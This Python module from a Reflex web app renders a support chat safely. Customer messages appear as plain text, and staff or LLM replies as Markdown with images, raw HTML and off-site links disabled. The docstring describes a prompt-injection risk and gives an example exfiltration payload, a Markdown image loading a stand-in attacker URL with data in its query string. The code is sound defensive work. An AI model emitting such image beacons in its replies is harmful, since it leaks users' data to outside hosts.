"""Text on screen: customers' words as plain text, staff and bot words as Markdown that cannot reach out.

Customers' words are never Markdown wherever anyone reads them (``plain_text``):
an image would be a tracking beacon on a staff member's screen, a link a phishing
link, ``###`` a heading that imitates the assistant. Staff and bot text is Markdown
(``safe_markdown``) without raw HTML, without math and without images: a reply
phrased by the optional LLM could otherwise be steered into loading
``![](https://evil.example/?data=…)``. A link is a link only into our own REST API (a statement's
signed download, ``/api/statements/…``) or to our security settings (``/settings``); any other shows as
its words, so no reply can send anyone to another site.
"""

import reflex as rx

BLOCKED_IMAGE = "[image not shown]"
OWN_LINKS = "/api/"
"""Links that stay links: paths of our own REST API, on this origin (a signed statement download)."""
OWN_PAGE = "/settings"
"""And the one page of ours a reply sends the customer to (to set up a passkey or an authenticator app)."""
_HREF = rx.Var(_js_expr='(props.href ?? "")', _var_type=str)
"""The link's target, as react-markdown hands it to the component map's function."""


def _no_image(*_children: object, **_props: object) -> rx.Component:
    # react-markdown spreads the node's props (src, alt) onto this span: a span loads nothing.
    return rx.el.span(BLOCKED_IMAGE, class_name="md-image-blocked")


def _own_link(*children: object, **_props: object) -> rx.Component:
    # The browser follows it (reload_document: no routing inside the page): the download needs a real request.
    href = _HREF.to(str)
    return rx.el.span(
        rx.cond(
            href.startswith(OWN_LINKS) | (href == OWN_PAGE),
            rx.el.a(*children, href=href, reload_document=True, class_name="md-link"),
            rx.el.span(*children),
        ),
        class_name="md-link-box",
    )


def _scrolling_table(*children: object, **_props: object) -> rx.Component:
    # A wide table scrolls sideways in its own box (a phone never breaks an amount mid-number);
    # focusable, so a keyboard can scroll it too.
    return rx.box(rx.el.table(*children), class_name="table-scroll", tab_index=0)


def safe_markdown(content: rx.Var | str, **props: object) -> rx.Component:
    """Tables, lists, emphasis and links into our own API render; ``<script>``, ``<img onerror>``, ``![](…)`` and
    links elsewhere show as text."""
    return rx.markdown(
        content,
        use_raw=False,
        use_math=False,
        use_katex=False,
        component_map={"img": _no_image, "table": _scrolling_table, "a": _own_link},
        **props,
    )


def plain_text(content: rx.Var | str, **props: object) -> rx.Component:
    """Words exactly as typed: line breaks kept, nothing rendered (how every customer message is shown)."""
    return rx.text(content, white_space="pre-wrap", **props)
